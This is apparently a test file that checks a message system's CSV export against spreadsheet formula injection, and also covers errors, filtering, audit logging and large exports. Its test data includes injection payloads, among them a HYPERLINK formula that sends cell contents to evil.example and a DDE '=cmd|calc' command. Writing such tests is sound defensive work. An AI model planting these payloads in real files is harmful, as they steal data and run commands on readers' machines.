import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { testOffice, withJson } from '#tests/support/unit/api.ts'
import { insertMessage } from '#tests/support/unit/rows.ts'

test('no cell of the CSV export is executable as a formula, and no text is lost', async () => {
  const { call, db } = await testOffice()
  const strange = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '+1+1|cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    ';=1+1',
    ';;@SUM(A1)',
    'Of no use here;=cmd|calc!A0;',
    'Line one\n=1+1\r\n -2+3\tthen\t＋1',
    'He said "no", then\nleft; twice.\r\nThe end',
    'मेरे पति का वेतन आठ माह से रुका हुआ है।',
  ]
  for (const [index, text] of strange.entries()) {
    await insertMessage(db, { text, name: text, receivedAt: `2026-11-01T06:00:${10 + index}.000Z` })
  }
  const response = await call('/insert/exportcontact')
  expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
  expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename=".+\.csv"$/)
  const bytes = new Uint8Array(await response.arrayBuffer())
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])

  const lines = parse(new TextDecoder().decode(bytes), { bom: true, columns: true }) as Record<string, string>[]
  expect(lines).toHaveLength(strange.length)
  for (const [index, text] of strange.toReversed().entries()) {
    for (const cell of [lines[index]?.Message ?? '', lines[index]?.Name ?? '']) {
      expect(cell).not.toMatch(/^[;=+\-@\t\r＝＋－＠]/)
      // Some spreadsheets split the cell at semicolons, tabs or line breaks.
      for (const part of cell.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^ *[=+\-@＝＋－＠]/)
      expect(cell.replaceAll("'", '')).toBe(text)
    }
  }
})

test('an error before the export starts returns 500, and an error during it aborts the response', async () => {
  const { call, db, log } = await testOffice()
  const lines: unknown[] = []
  log.error = (...line: unknown[]) => void lines.push(line)
  await insertMessage(db)
  await db.schema.alterTable('deskEntry').renameTo('elsewhere').execute()
  const broken = await call('/insert/exportcontact')
  expect(broken.status).toBe(200)
  await expect(broken.text()).rejects.toThrow(/deskEntry/)
  expect(lines).toEqual([[expect.objectContaining({ path: '/insert/exportcontact' }), 'an answer was broken off']])
  await db.schema.alterTable('message').renameTo('nowhere').execute()
  expect((await call('/insert/exportcontact')).status).toBe(500)
})

test('the export contains only the filtered messages, with readable values, and is recorded in the audit log', async () => {
  const { call, db } = await testOffice()
  const id = await insertMessage(db, { service: 'arbitration' })
  await insertMessage(db, { state: 'spam' })
  await call(`/insert/contact?id=${id}`, withJson('PATCH', { state: 'in-hand', note: 'Rang.' }))
  const table = async (query: string) =>
    parse(await (await call(`/insert/exportcontact${query}`)).text(), { bom: true, columns: true }) as unknown[]
  const line = {
    State: 'In hand',
    With: 'admin',
    'Practice area': 'Arbitration',
    Notes: expect.stringMatching(/ admin: Rang\.$/),
  }
  expect(await table('')).toEqual([expect.objectContaining(line)])
  expect(await table('?state=in-hand&assignee=me')).toHaveLength(1)
  expect(await table('?state=closed')).toEqual([])
  expect(await table('?assignee=nobody.here')).toEqual([])
  const records = await db.selectFrom('record').selectAll().where('what', '=', 'message exported').execute()
  expect(records).toHaveLength(4)
})

test('an export of more than 1,000 messages contains all of them, newest first', async () => {
  const { call, db } = await testOffice()
  for (let second = 0; second < 1_001; second++) {
    await insertMessage(db, { receivedAt: new Date(second * 1000).toISOString(), text: String(second) })
  }
  const text = await (await call('/insert/exportcontact')).text()
  const lines = parse(text, { bom: true, columns: true }) as { Message: string }[]
  expect(lines.map(({ Message }) => Number(Message))).toEqual(
    Array.from({ length: 1_001 }, (_, index) => 1_000 - index),
  )
})
